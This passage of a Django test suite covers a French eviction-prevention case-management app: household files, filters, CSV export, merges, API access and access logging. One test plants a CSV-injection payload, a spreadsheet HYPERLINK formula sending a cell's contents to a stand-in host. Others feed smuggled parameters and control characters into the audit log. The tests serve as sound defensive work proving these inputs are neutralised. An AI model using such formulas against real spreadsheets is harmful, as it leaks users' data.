import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import DatabaseError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dossiers import recherche, resume
from dossiers.enums import StatutMenage, Vulnerabilite
from dossiers.models import Consultation, EvenementJournal, MembreMenage, Menage, MenageProcedure
from dossiers.views.menages import ENTETES_CSV
from procedure.enums import IssueJugement, Motif, NatureBailleur, Parc, Stade, TypeActe
from procedure.models import ActeProcedure, EtatDette, Procedure
from tests.conftest import ACTEURS, client_de
from tests.dossiers.factories import MembreFactory, MenageFactory, menage_avec_procedure
from tests.procedure.factories import ProcedureFactory
from tests.requetes import verifier_requetes_constantes

AUJOURD_HUI = timezone.localdate()
IL_Y_A = lambda jours: AUJOURD_HUI - timedelta(days=jours)  # noqa: E731


@pytest.fixture
def agent(monde):
    return client_de(monde.secretariat)


def donnees_creation(monde, **extra):
    return {
        "nom": "Lefèvre",
        "prenom": "Hélène",
        "date_naissance": "1980-05-04",
        "adresse": "12 rue des Lilas",
        "commune": monde.commune.pk,
        "aide_logement": "apl",
        "dls_statut": "active",
        **extra,
    }


class TestCreation:
    def test_cree_le_dossier_avec_son_numero_et_le_journal(self, monde, agent):
        reponse = agent.post(reverse("dossiers:creer"), donnees_creation(monde))
        menage = Menage.objects.get()
        assert reponse.url == reverse("dossiers:menage", args=[menage.numero])
        assert menage.numero == f"96-{AUJOURD_HUI.year}-00001"
        assert menage.membres.get().nom == "Lefèvre"
        assert menage.cree_par == monde.secretariat
        assert EvenementJournal.objects.get(menage=menage).auteur == monde.secretariat

    def test_erreurs_en_francais_et_rien_d_enregistre(self, monde, agent):
        reponse = agent.post(reverse("dossiers:creer"), {"nom": "", "commune": "999999"})
        html = reponse.content.decode()
        assert "Le formulaire contient" in html
        assert "Ce champ est obligatoire" in html
        assert "Sélectionnez un choix valide" in html
        assert Menage.objects.count() == 0

    def test_doublons_montres_puis_creation_confirmee(self, monde, agent):
        existant = MenageFactory(departement=monde.departement, adresse="3 place Verte")
        MembreFactory(menage=existant, nom="LEFEVRE", date_naissance=date(1980, 5, 4))
        reponse = agent.post(reverse("dossiers:creer"), donnees_creation(monde))
        assert reponse.status_code == 200
        html = reponse.content.decode()
        assert "Ce ménage est peut-être déjà connu" in html
        assert existant.numero in html and "même nom et même date de naissance" in html
        assert Menage.objects.count() == 1
        agent.post(reverse("dossiers:creer"), donnees_creation(monde, creer_malgre_doublons="on"))
        assert Menage.objects.count() == 2


class TestListe:
    def test_recherche_sans_accents_ni_casse(self, monde, agent):
        trouve = menage_avec_procedure(
            monde.departement, nom="Lefèvre", adresse="12 avenue des Tilleuls"
        )
        menage_avec_procedure(monde.departement, nom="Durand")
        for texte in ["lefevre", "LEFÈVRE", "lefvre", trouve.numero, "AVENUE DES TILLEULS"]:
            page = agent.get(reverse("dossiers:liste"), {"q": texte})
            assert [m.numero for m in page.context["page"]] == [trouve.numero], texte

    def test_recherche_par_numero_rg(self, monde, agent):
        trouve = menage_avec_procedure(monde.departement)
        trouve.procedures.update(numero_rg="24/01234")
        recherche.actualiser([trouve.pk])  # what `services.modifier_procedure` does
        menage_avec_procedure(monde.departement)
        page = agent.get(reverse("dossiers:liste"), {"q": "24/01234"})
        assert [m.numero for m in page.context["page"]] == [trouve.numero]

    def test_filtres(self, monde, agent):
        cql = menage_avec_procedure(
            monde.departement,
            actes=[
                (TypeActe.ASSIGNATION, IL_Y_A(200)),
                (TypeActe.JUGEMENT, IL_Y_A(100), IssueJugement.EXPULSION_ORDONNEE),
                (TypeActe.CQL, IL_Y_A(30)),
            ],
            vulnerabilites=[Vulnerabilite.SANTE],
        )
        cdp = menage_avec_procedure(monde.departement, actes=[(TypeActe.CDP, IL_Y_A(200))])
        liste = reverse("dossiers:liste")

        def numeros(**filtres):
            return [m.numero for m in agent.get(liste, filtres).context["page"]]

        assert numeros(stade=Stade.CQL) == [cql.numero]
        assert numeros(vulnerabilite=Vulnerabilite.SANTE) == [cql.numero]
        # The CQL's two months end in about 30 days; the CDP's 6 weeks are long past (overdue
        # deadlines are included: they need action first).
        assert set(numeros(echeance_dans=40)) == {cql.numero, cdp.numero}
        assert numeros(echeance_dans=40, stade=Stade.CDP) == [cdp.numero]
        assert numeros(tri="-numero") == sorted([cql.numero, cdp.numero], reverse=True)

    def test_export_csv_du_filtre(self, monde, agent):
        menage_avec_procedure(
            monde.departement,
            nom="Lefèvre",
            actes=[(TypeActe.CDP, IL_Y_A(10))],
            dettes=[(IL_Y_A(10), Decimal("1234.5"))],
        )
        menage_avec_procedure(monde.departement, nom="Durand")
        reponse = agent.get(reverse("dossiers:export_csv"), {"q": "lefevre"})
        assert reponse["Content-Type"] == "text/csv; charset=utf-8"
        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
        lignes = list(csv.reader(io.StringIO(texte), delimiter=";"))
        assert lignes[0][:3] == ["Numéro", "Nom", "Prénom"]
        assert len(lignes) == 2 and lignes[1][1] == "Lefèvre"
        assert lignes[1][5] == "Commandement de payer"
        assert lignes[1][10].replace("\u202f", " ") == "1 234,50 €"
        # Every column, against the household as the model gives it.
        m = Menage.objects.select_related("commune").get(numero=lignes[1][0])
        assert m.prochaine_echeance is not None and m.prochaine_echeance_libelle
        assert lignes[1] == [
            m.numero,
            "Lefèvre",
            m.prenom_reference,
            m.adresse,
            m.commune.nom,
            "Commandement de payer",
            Motif(m.motif).label,
            Parc(m.parc).label,
            m.prochaine_echeance.strftime("%d/%m/%Y"),
            m.prochaine_echeance_libelle,
            lignes[1][10],
            StatutMenage(m.statut).label,
        ]

    def test_export_csv_neutralise_les_formules(self, monde, agent):
        """A value typed by a partner never runs as a formula in the secretariat's spreadsheet
        (OWASP CSV injection): text starting with = + - @ tab or CR gets a leading quote."""
        menage = menage_avec_procedure(
            monde.departement,
            nom='=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
            adresse="+33 rue du Calcul",
            dettes=[(IL_Y_A(10), Decimal("1234.5"))],
        )
        menage.membres.update(prenom="@SOMME(1+1)")
        resume.actualiser([menage.pk])  # updated directly, not through a service
        reponse = agent.get(reverse("dossiers:export_csv"))
        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
        (_entetes, ligne) = list(csv.reader(io.StringIO(texte), delimiter=";"))
        assert ligne[1] == '\'=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'
        assert ligne[2] == "'@SOMME(1+1)"
        assert ligne[3] == "'+33 rue du Calcul"
        assert ligne[10].replace("\u202f", " ") == "1 234,50 €"  # untouched

    def test_export_csv_ordre_filtres_tris_et_valeurs_absentes(self, monde, agent):
        """The export is the list, whole: the same households in the same order for each
        filter and sort; a household without procedure or member exports empty cells (never
        « None », « — » nor 0); merged, archived and other départements' files never leave."""
        depasse = menage_avec_procedure(
            monde.departement,
            nom="Bernard",
            actes=[(TypeActe.CDP, IL_Y_A(200))],
            dettes=[(IL_Y_A(10), Decimal("900"))],
        )
        proche = menage_avec_procedure(
            monde.departement,
            nom="Aubert",
            actes=[
                (TypeActe.ASSIGNATION, IL_Y_A(200)),
                (TypeActe.JUGEMENT, IL_Y_A(100), IssueJugement.EXPULSION_ORDONNEE),
                (TypeActe.CQL, IL_Y_A(30)),
            ],
            dettes=[(IL_Y_A(10), Decimal("5000"))],
            vulnerabilites=[Vulnerabilite.SANTE],
        )
        sans_procedure = MenageFactory(departement=monde.departement)
        MembreFactory(menage=sans_procedure, nom="Carré", prenom="Zoé")
        resume.actualiser([sans_procedure.pk])
        vide = MenageFactory(departement=monde.departement)  # neither procedure nor member
        fusionne = menage_avec_procedure(monde.departement, nom="Doublon")
        Menage.objects.filter(pk=fusionne.pk).update(
            statut=StatutMenage.FUSIONNE, fusionne_dans=proche
        )
        archive = menage_avec_procedure(monde.departement, nom="Archivé")
        Menage.objects.filter(pk=archive.pk).update(archive_le=timezone.now())
        ailleurs = menage_avec_procedure(monde.autre_departement, nom="Ailleurs")
        jamais = {fusionne.numero, archive.numero, ailleurs.numero}

        def exporte(**parametres):
            reponse = agent.get(reverse("dossiers:export_csv"), parametres)
            texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
            entetes, *lignes = csv.reader(io.StringIO(texte), delimiter=";")
            assert len(entetes) == 12 and all(len(ligne) == 12 for ligne in lignes)
            assert not jamais & {ligne[0] for ligne in lignes}, parametres
            return lignes

        def numeros(**parametres):
            return [ligne[0] for ligne in exporte(**parametres)]

        lignes = {ligne[0]: ligne for ligne in exporte()}
        commune = lambda m: Menage.objects.get(pk=m.pk).commune.nom  # noqa: E731
        assert lignes[vide.numero] == [
            vide.numero, "", "", vide.adresse, commune(vide), Stade.PREVENTION.label,
            "", "", "", "", "", StatutMenage.ACTIF.label,
        ]  # fmt: skip
        assert lignes[sans_procedure.numero] == [
            sans_procedure.numero, "Carré", "Zoé", sans_procedure.adresse,
            commune(sans_procedure), Stade.PREVENTION.label, "", "", "", "", "",
            StatutMenage.ACTIF.label,
        ]  # fmt: skip
        depasse.refresh_from_db()
        assert lignes[depasse.numero][8] == depasse.prochaine_echeance.strftime("%d/%m/%Y")
        assert lignes[depasse.numero][10].replace("\u202f", " ") == "900,00 €"
        assert lignes[proche.numero][5] == Stade.CQL.label

        # The default order: the nearest deadline first (an overdue one before), households
        # without a deadline last, the most recently created first among them.
        assert numeros() == [depasse.numero, proche.numero, vide.numero, sans_procedure.numero]
        assert numeros(tri="nom") == [
            proche.numero,
            depasse.numero,
            sans_procedure.numero,
            vide.numero,
        ]
        assert numeros(tri="-dette", motif=Motif.IMPAYES) == [proche.numero, depasse.numero]
        assert numeros(stade=Stade.CDP) == [depasse.numero]
        assert numeros(vulnerabilite=Vulnerabilite.SANTE) == [proche.numero]
        assert numeros(q="carre") == [sans_procedure.numero]
        assert numeros(q="doublon") == numeros(q="ailleurs") == []
        # Every filter and sort of the list, against the list's own page, ties included: both
        # end the order with the id (two households without a deadline under « -echeance »).
        for parametres in [
            {"tri": "-echeance"},
            {"tri": "echeance"},
            {"tri": "-nom"},
            {"tri": "numero"},
            {"tri": "-numero"},
            {"tri": "creation"},
            {"tri": "-creation"},
            {"tri": "-echeance", "motif": Motif.IMPAYES},
            {"tri": "dette", "parc": Parc.PRIVE},
            {"echeance_dans": 40},
            {"echeance_dans": 40, "stade": Stade.CQL},
            {"stade": [Stade.CDP, Stade.CQL], "tri": "-numero"},
            {"motif": Motif.IMPAYES},
            {"statut": StatutMenage.ACTIF, "tri": "nom"},
            {"commune": sans_procedure.commune_id},
            {"origine": "caf"},
        ]:
            page = agent.get(reverse("dossiers:liste"), parametres).context["page"]
            assert numeros(**parametres) == [m.numero for m in page], parametres

    def test_export_csv_d_un_autre_departement_vide(self, monde):
        """A secretariat of another département exports none of these households, whatever
        it searches for."""
        menage = menage_avec_procedure(monde.departement, nom="Lefèvre")
        client = client_de(monde.secretariat_autre_departement)
        for parametres in [{}, {"q": "lefevre"}, {"q": menage.numero}, {"tri": "-dette"}]:
            reponse = client.get(reverse("dossiers:export_csv"), parametres)
            assert reponse.status_code == 200
            texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
            assert texte.splitlines() == [";".join(ENTETES_CSV)], parametres

    def test_autre_departement_invisible(self, monde):
        menage_avec_procedure(monde.departement)
        page = client_de(monde.secretariat_autre_departement).get(reverse("dossiers:liste"))
        assert page.context["total"] == 0

    def test_nombre_de_requetes_constant(self, monde, agent):
        def remplir(n):
            while Menage.objects.count() < n:
                menage_avec_procedure(
                    monde.departement,
                    actes=[(TypeActe.CDP, IL_Y_A(20))],
                    dettes=[(IL_Y_A(20), Decimal("900"))],
                )

        verifier_requetes_constantes(agent, reverse("dossiers:liste"), remplir)


class TestPageDuDossier:
    def test_frise_echeances_dette_et_consultation_journalisee(self, monde, agent):
        menage = menage_avec_procedure(
            monde.departement,
            actes=[
                (TypeActe.REQUISITION_CFP, IL_Y_A(90)),
            ],
            dettes=[(IL_Y_A(200), Decimal("800")), (IL_Y_A(90), Decimal("2500"))],
        )
        ActeProcedure.objects.filter(type=TypeActe.REQUISITION_CFP).update(date=IL_Y_A(90))
        reponse = agent.get(reverse("dossiers:menage", args=[menage.numero]))
        html = reponse.content.decode()
        assert "Réquisition du concours de la force publique" in html
        assert "refus implicite" in html and "Dépassée" in html  # 2 months without answer
        assert "<svg" in html and "Historique de la dette" in html
        assert "2\u202f500,00\u202f€" in html
        (consultation,) = Consultation.objects.all()
        assert consultation.menage == menage and consultation.utilisateur == monde.secretariat

    def test_nombre_de_requetes_independant_du_nombre_d_actes(self, monde, agent):
        menage = menage_avec_procedure(monde.departement)
        procedure = menage.procedures.get()

        def remplir(n):
            # n acts: alternating debt statements and CAF reports (any number is possible).
            while procedure.actes.count() < n:
                jour = IL_Y_A(400 - procedure.actes.count())
                ActeProcedure.objects.create(
                    procedure=procedure, type=TypeActe.SIGNALEMENT_CAF, date=jour
                )
                procedure.dettes.create(date=jour, montant=Decimal("100") + procedure.actes.count())

        verifier_requetes_constantes(
            agent, reverse("dossiers:menage", args=[menage.numero]), remplir
        )

    def test_ajout_d_acte_en_htmx_renvoie_le_bloc(self, monde, agent):
        menage = menage_avec_procedure(monde.departement)
        procedure = menage.procedures.get()
        url = reverse("dossiers:ajouter_acte", args=[menage.numero, procedure.pk])
        prefixe = f"acte-{procedure.pk}"
        reponse = agent.post(
            url,
            {
                f"{prefixe}-type": "cdp",
                f"{prefixe}-date": IL_Y_A(3).isoformat(),
                f"{prefixe}-montant_dette": "1500",
            },
            headers={"HX-Request": "true"},
        )
        html = reponse.content.decode()
        assert reponse.status_code == 200 and "<html" not in html
        assert f'id="procedure-{procedure.pk}"' in html
        # Lease date unknown: both possible ends of the CDP period are given.
        assert "Fin du délai du commandement de payer (date du bail inconnue : 6 semaines" in html
        assert procedure.actes.get().type == TypeActe.CDP
        assert procedure.dettes.get().montant == Decimal("1500")
        assert EvenementJournal.objects.filter(menage=menage, type="acte_ajoute").exists()

    def test_acte_impossible_refuse_avec_message(self, monde, agent):
        menage = menage_avec_procedure(monde.departement)
        procedure = menage.procedures.get()
        prefixe = f"acte-{procedure.pk}"
        reponse = agent.post(
            reverse("dossiers:ajouter_acte", args=[menage.numero, procedure.pk]),
            {f"{prefixe}-type": "cql", f"{prefixe}-date": IL_Y_A(3).isoformat()},
            headers={"HX-Request": "true"},
        )
        assert "suppose un jugement ordonnant l’expulsion" in reponse.content.decode()
        assert not procedure.actes.exists()

    @pytest.mark.parametrize("quoi", ["acte", "dette", "doublon"])
    def test_sans_javascript_un_refus_garde_la_saisie(self, monde, agent, quoi):
        """Without htmx (JavaScript off or failed to load), a refused act or debt comes back
        in the whole dossier page with what was typed, the field errors and the reason at
        the top; an act close to one of the same type can be confirmed there. A redirect
        lost the input and showed only the reasons not tied to a field."""
        menage = menage_avec_procedure(
            monde.departement, actes=[(TypeActe.CDP, IL_Y_A(10))], dettes=[(IL_Y_A(9), 500)]
        )
        procedure = menage.procedures.get()
        consultations = Consultation.objects.filter(menage=menage).count()
        if quoi == "dette":
            url = reverse("dossiers:ajouter_dette", args=[menage.numero, procedure.pk])
            prefixe = f"dette-{procedure.pk}"
            donnees = {f"{prefixe}-date": IL_Y_A(2).isoformat(), f"{prefixe}-montant": "12x4"}
            attendus = ["La dette n’a pas été enregistrée", 'value="12x4"']
        else:
            url = reverse("dossiers:ajouter_acte", args=[menage.numero, procedure.pk])
            prefixe = f"acte-{procedure.pk}"
            donnees = {f"{prefixe}-type": "cdp", f"{prefixe}-montant_dette": "1789"}
            if quoi == "doublon":  # a second CDP two days after the first
                donnees[f"{prefixe}-date"] = IL_Y_A(8).isoformat()
                attendus = ["est déjà enregistré le", "Enregistrer quand même"]
            else:
                donnees[f"{prefixe}-date"] = "31/02/2026"  # no such day
                attendus = ["L’acte n’a pas été enregistré", 'value="31/02/2026"']
            attendus.append('value="1789"')
        reponse = agent.post(url, donnees)
        html = reponse.content.decode()
        assert reponse.status_code == 200 and "<html" in html
        for attendu in attendus:
            assert attendu in html, attendu
        # The form's own error summary, not only the message at the top (also fr-alert--error).
        assert "Le formulaire contient" in html
        assert (procedure.actes.count(), procedure.dettes.count()) == (1, 1)
        # The page shows the dossier: its reading is logged as for the page itself.
        assert Consultation.objects.filter(menage=menage).count() == consultations + 1
        if quoi == "doublon":
            donnees[f"{prefixe}-confirmer_doublon"] = "on"
            assert agent.post(url, donnees).status_code == 302
            assert procedure.actes.count() == 2
        if quoi == "dette":  # corrected, it is recorded and said so on the page
            donnees[f"{prefixe}-montant"] = "1240"
            page = agent.post(url, donnees, follow=True).content.decode()
            assert "Montant de la dette enregistré." in page
            assert procedure.dettes.count() == 2

    def test_correction_d_acte_avec_historique(self, monde, agent):
        menage = menage_avec_procedure(monde.departement, actes=[(TypeActe.CDP, IL_Y_A(30))])
        acte = ActeProcedure.objects.get()
        url = reverse("dossiers:corriger_acte", args=[menage.numero, acte.pk])
        reponse = agent.post(url, {"type": "cdp", "date": IL_Y_A(29).isoformat(), "version": "1"})
        assert reponse.status_code == 302
        acte.refresh_from_db()
        assert acte.date == IL_Y_A(29) and acte.history.count() == 2
        assert IL_Y_A(30).strftime("%d/%m/%Y") in agent.get(url).content.decode()


class TestModificationConcurrente:
    def test_la_seconde_sauvegarde_est_refusee_et_nomme_l_auteur(self, monde):
        from partenaires.enums import Role
        from tests.partenaires.factories import utilisateur_avec_role

        menage = menage_avec_procedure(monde.departement)
        collegue = utilisateur_avec_role(
            Role.SECRETARIAT, monde.prefecture, utilisateur__prenom="Inès", utilisateur__nom="Morel"
        )
        url = reverse("dossiers:modifier", args=[menage.numero])
        premier, second = client_de(collegue), client_de(monde.secretariat)
        formulaire = second.get(url).context["form"]  # both open the form at version 1
        premier.get(url)

        def envoyer(client, telephone):
            donnees = {
                "adresse": menage.adresse,
                "commune": menage.commune_id,
                "telephone": telephone,
                "aide_logement": "aucune",
                "dls_statut": "aucune",
                "version": formulaire["version"].value(),
            }
            for prefixe in ["membres", "ressources", "mesures"]:
                donnees |= {f"{prefixe}-TOTAL_FORMS": "0", f"{prefixe}-INITIAL_FORMS": "0"}
            membre = menage.membres.get()
            donnees |= {
                "membres-TOTAL_FORMS": "1",
                "membres-INITIAL_FORMS": "1",
                "membres-0-id": membre.pk,
                "membres-0-nom": membre.nom,
                "membres-0-lien": membre.lien,
            }
            return client.post(url, donnees)

        assert envoyer(premier, "0102030405").status_code == 302
        refus = envoyer(second, "0611111111")
        assert refus.status_code == 200
        assert "modifiées par Inès Morel" in refus.content.decode()
        menage.refresh_from_db()
        assert menage.telephone == "0102030405" and menage.version == 2


class TestFusion:
    def test_la_fusion_garde_tout(self, monde, agent):
        from dossiers.models import Document, Saisine

        garde = menage_avec_procedure(
            monde.departement, nom="Lefèvre", actes=[(TypeActe.CDP, IL_Y_A(90))]
        )
        doublon = menage_avec_procedure(
            monde.departement, nom="Lefevre", actes=[(TypeActe.ASSIGNATION, IL_Y_A(30))]
        )
        Saisine.objects.create(
            departement=monde.departement,
            nature="complexe",
            canal="courrier",
            origine="menage",
            menage=doublon,
            numero="S-96-2026-00001",
            statut="soumise",
        )
        Document.objects.create(
            menage=doublon,
            type="dsf",
            fichier="x",
            nom="dsf.pdf",
            type_mime="application/pdf",
            taille=1,
            sha256="0" * 64,
        )
        url = reverse("dossiers:fusionner", args=[garde.numero, doublon.numero])
        assert agent.post(url, {}).status_code == 200  # confirmation required
        assert agent.post(url, {"confirmer": "on"}).url == reverse(
            "dossiers:menage", args=[garde.numero]
        )
        doublon.refresh_from_db()
        assert doublon.statut == StatutMenage.FUSIONNE and doublon.fusionne_dans == garde
        assert garde.procedures.count() == 2
        assert ActeProcedure.objects.filter(procedure__menages=garde).count() == 2
        assert garde.saisines.count() == 1 and garde.documents.count() == 1
        ancien = agent.get(reverse("dossiers:menage", args=[doublon.numero]))
        assert ancien.url == reverse("dossiers:menage", args=[garde.numero])

    def test_une_modification_postee_sur_le_doublon_revient_avec_la_raison(self, monde, agent):
        """The edit page was loaded before the merge: the post comes back with the agent's
        input and a refusal naming the kept dossier (a 404 lost the edit without a word);
        nothing is written. A GET leads to the kept dossier."""
        from dossiers.services.menages import fusionner

        garde = menage_avec_procedure(monde.departement, nom="Lefèvre")
        doublon = menage_avec_procedure(monde.departement, nom="Lefèvre")
        url = reverse("dossiers:modifier", args=[doublon.numero])
        formulaire = agent.get(url).context["form"]
        membre = doublon.membres.get()
        fusionner(garde, doublon, par=monde.secretariat)
        avant = list(Menage.objects.order_by("pk").values())
        journal = EvenementJournal.objects.count()
        donnees = {
            "adresse": "12 rue des Tilleuls",
            "commune": doublon.commune_id,
            "telephone": "0611223344",
            "aide_logement": "aucune",
            "dls_statut": "aucune",
            "version": formulaire["version"].value(),
            "membres-TOTAL_FORMS": "1",
            "membres-INITIAL_FORMS": "1",
            "membres-0-id": membre.pk,
            "membres-0-nom": "Lefèvre-Martin",
            "membres-0-lien": membre.lien,
        }
        for prefixe in ["ressources", "mesures"]:
            donnees |= {f"{prefixe}-TOTAL_FORMS": "0", f"{prefixe}-INITIAL_FORMS": "0"}
        reponse = agent.post(url, donnees)
        assert reponse.status_code == 200
        html = reponse.content.decode()
        assert f"fusionné dans le dossier {garde.numero}" in html
        assert "12 rue des Tilleuls" in html and "0611223344" in html
        assert "Lefèvre-Martin" in html
        assert list(Menage.objects.order_by("pk").values()) == avant
        assert not MembreMenage.objects.filter(nom="Lefèvre-Martin").exists()
        assert EvenementJournal.objects.count() == journal  # no journal line for a refusal
        assert agent.get(url).url == reverse("dossiers:menage", args=[garde.numero])


class TestApi:
    def test_liste_filtree_comme_l_ecran(self, monde, agent):
        cql = menage_avec_procedure(monde.departement, nom="Lefèvre")
        menage_avec_procedure(monde.departement, nom="Durand")
        reponse = agent.get("/api/v1/dossiers/", {"q": "lefevre"})
        assert [d["numero"] for d in reponse.json()["results"]] == [cql.numero]

    def test_jeton(self, monde, client):
        from tests.partenaires.factories import cle_api_de

        menage_avec_procedure(monde.departement, actes=[(TypeActe.CDP, IL_Y_A(5))])
        jeton = cle_api_de(monde.secretariat)
        reponse = client.get("/api/v1/procedures/", headers={"Authorization": f"Token {jeton}"})
        (procedure,) = reponse.json()["results"]
        assert procedure["stade"] == "cdp" and procedure["actes"][0]["type"] == "cdp"
        autre = cle_api_de(monde.partenaire)
        assert (
            client.get("/api/v1/dossiers/", headers={"Authorization": f"Token {autre}"}).status_code
            == 403
        )

    def test_schema_openapi(self, agent):
        schema = agent.get("/api/schema/").content.decode()
        assert "/api/v1/dossiers/" in schema and "/api/v1/procedures/" in schema


def test_export_du_journal_des_consultations(monde, agent):
    menage = menage_avec_procedure(monde.departement)
    agent.get(reverse("dossiers:menage", args=[menage.numero]))
    reponse = client_de(monde.administrateur).get(
        reverse("dossiers:export_consultations"),
        # Today as the log sees it, now (not at import: the suite may cross midnight).
        {"du": IL_Y_A(1).isoformat(), "au": timezone.localdate().isoformat()},
    )
    texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
    assert menage.numero in texte and monde.secretariat.email in texte


def test_lectures_par_l_api_et_export_journalisees(monde, agent):
    """The API and the CSV export hand out names and addresses too: they are in the log,
    and the DPO's export includes the reads that concern no single dossier."""
    menage = menage_avec_procedure(monde.departement)
    agent.get(f"/api/v1/dossiers/{menage.numero}/")
    agent.get("/api/v1/dossiers/")
    agent.get(reverse("dossiers:export_csv"))
    lectures = list(
        Consultation.objects.filter(utilisateur=monde.secretariat).values_list("objet", "menage")
    )
    assert sorted(lectures, key=str) == sorted(
        [("dossier_api", menage.pk), ("liste_api", None), ("export_csv", None)], key=str
    )
    # Another département's agent reads nothing of ours, and its reads are not in our export.
    client_de(monde.secretariat_autre_departement).get("/api/v1/dossiers/")
    reponse = client_de(monde.administrateur).get(
        reverse("dossiers:export_consultations"),
        {"du": IL_Y_A(1).isoformat(), "au": timezone.localdate().isoformat()},
    )
    texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
    assert texte.count("liste_api") == 1 and "export_csv" in texte
    assert monde.secretariat_autre_departement.email not in texte


def test_la_liste_de_l_api_journalise_ses_filtres_comme_l_export(monde, agent, monkeypatch):
    """The API's page of households records the filters it applied as the CSV export does
    (the same FilterSet, the same helper), the page number apart."""
    from ccapex.pagination import PaginationPlafonnee

    monkeypatch.setattr(PaginationPlafonnee, "page_size", 2)
    for menage in MenageFactory.create_batch(3, departement=monde.departement):
        MembreFactory(menage=menage, nom="Martin")
    liste = "/api/v1/dossiers/"
    parametres = [("q", "martin"), ("q", "  Martin "), ("tri", "nom"), ("inconnu", "x")]
    for page in ("1", "2"):
        assert agent.get(liste, [*parametres, ("page", page)]).status_code == 200
    assert agent.get(liste).status_code == 200
    lignes = Consultation.objects.filter(objet="liste_api").order_by("id")
    assert list(lignes.values_list("objet_id", "chemin")) == [
        ("1", f"{liste}?tri=nom&q=Martin"),
        ("2", f"{liste}?tri=nom&q=Martin"),
        ("1", liste),
    ]


def _chemins_des_exports(agent, *requetes) -> list[str]:
    """The logged address of each CSV export, the query given as a list of pairs."""
    for parametres in requetes:
        assert agent.get(reverse("dossiers:export_csv"), parametres).status_code == 200
    lignes = Consultation.objects.filter(objet="export_csv").order_by("id")
    return list(lignes.values_list("chemin", flat=True))


def test_l_export_csv_journalise_ses_filtres_et_eux_seuls(monde, agent):
    """The DPO can answer « who extracted which households »: the filters are in the logged
    address, an unknown parameter never is, and the DPO's export shows them."""
    export = reverse("dossiers:export_csv")
    assert _chemins_des_exports(
        agent,
        [("stade", "cql"), ("q", "martin"), ("inconnu", "x")],
        [],
        # The list's form sends its empty fields: no filter.
        [("q", ""), ("motif", ""), ("epci", ""), ("tri", ""), ("inconnu", "x")],
    ) == [f"{export}?stade=cql&q=martin", export, export]
    reponse = client_de(monde.administrateur).get(
        reverse("dossiers:export_consultations"),
        {"du": IL_Y_A(1).isoformat(), "au": timezone.localdate().isoformat()},
    )
    texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
    entetes, *lignes = csv.reader(io.StringIO(texte), delimiter=";")
    adresses = [ligne[entetes.index("Adresse")] for ligne in lignes if ligne[4] == "export_csv"]
    assert sorted(adresses) == sorted([f"{export}?stade=cql&q=martin", export, export])


def test_l_export_csv_journalise_les_filtres_tels_qu_appliques(monde, agent):
    """What the form read, not what was sent: the last of a repeated single value, multiple
    values sorted once, ids and numbers without padding, the sort as one parameter."""
    export = reverse("dossiers:export_csv")
    chemins = _chemins_des_exports(
        agent,
        [("q", "innocent"), ("q", "martin")],
        [("stade", "cql"), ("stade", "cdp"), ("stade", "cql")],
        [("echeance_dans", "0" * 900 + "40"), ("commune", f"000{monde.commune.pk}")],
        [("tri", "nom,-dette"), ("q", "  martin  ")],
    )
    assert chemins == [
        f"{export}?q=martin",
        f"{export}?stade=cdp&stade=cql",
        f"{export}?commune={monde.commune.pk}&echeance_dans=40",
        f"{export}?tri=nom%2C-dette&q=martin",
    ]


def test_le_journal_de_l_export_ne_se_laisse_pas_ecrire(monde, agent):
    """A value cannot pass for another filter nor hide one; unicode stays readable, control
    and invisible characters never reach the log; a long search is cut visibly, last."""
    export = reverse("dossiers:export_csv")
    chemins = _chemins_des_exports(
        agent,
        [("q", "martin&stade=cql#x=1%41+")],
        [("q", "Lefèvre Zoé")],
        [("q", "a\u202eb\u200bc\nd\te")],
        [("q", "martin " * 140), ("stade", "cql"), ("statut", "actif")],
    )
    assert chemins[0] == f"{export}?q=martin%26stade%3Dcql%23x%3D1%2541%2B"
    assert chemins[1] == f"{export}?q=Lefèvre+Zoé"
    assert chemins[2] == f"{export}?q=a?b?c%0Ad%09e"
    assert len(chemins[3]) == 300 and chemins[3].endswith("…")
    assert chemins[3].startswith(f"{export}?stade=cql&statut=actif&q=martin+martin+")
    assert all(c.isprintable() for chemin in chemins for c in chemin)


def test_sans_ligne_au_journal_pas_d_export(monde, agent, monkeypatch):
    """The list never leaves unlogged: a line that cannot be written fails the request before
    any household is read."""
    menage_avec_procedure(monde.departement, nom="Martin")

    def journal_indisponible(**champs):
        raise DatabaseError("journal indisponible")

    monkeypatch.setattr(Consultation.objects, "create", journal_indisponible)
    with pytest.raises(DatabaseError, match="journal indisponible"):
        agent.get(reverse("dossiers:export_csv"), {"q": "martin", "stade": "cdp"})


def test_une_valeur_gonflee_ne_chasse_pas_la_recherche_du_journal(monde, agent):
    """A number of 990 digits or a sort naming one column 250 times is a valid filter, so the
    export answers; in the log it is cut, and cannot push the search out of the column."""
    export = reverse("dossiers:export_csv")
    chemins = _chemins_des_exports(
        agent,
        [("echeance_dans", "3649." + "9" * 990), ("q", "martin")],
        [("tri", ",".join(["nom"] * 250)), ("q", "martin")],
        # The longest real value, the sort on every column, is whole.
        [("tri", "-creation,-dette,-echeance,-nom,-numero")],
    )
    assert chemins == [
        f"{export}?echeance_dans=3649.{'9' * 34}…&q=martin",
        f"{export}?tri={'nom%2C' * 9}nom…&q=martin",
        f"{export}?tri=-creation%2C-dette%2C-echeance%2C-nom%2C-numero",
    ]


def test_une_adresse_de_la_longueur_de_la_colonne_n_est_pas_coupee(monde, agent):
    export = reverse("dossiers:export_csv")
    place = 300 - len(f"{export}?q=")
    chemins = _chemins_des_exports(agent, [("q", "x" * place)], [("q", "x" * (place + 1))])
    assert chemins == [f"{export}?q={'x' * place}", f"{export}?q={'x' * (place - 1)}…"]


def test_un_nombre_journalise_exact_et_court(monde, agent):
    """A number is written without padding but exactly (never rounded to the nearest day),
    and a tiny exponent is not written out in a million zeros."""
    export = reverse("dossiers:export_csv")
    chemins = _chemins_des_exports(
        agent,
        [("echeance_dans", "0040.500")],
        [("echeance_dans", "3649.9999999999999999999999999999999")],
        [("echeance_dans", "1E-999999")],
        [("echeance_dans", "0")],
        [("echeance_dans", "3650.000")],
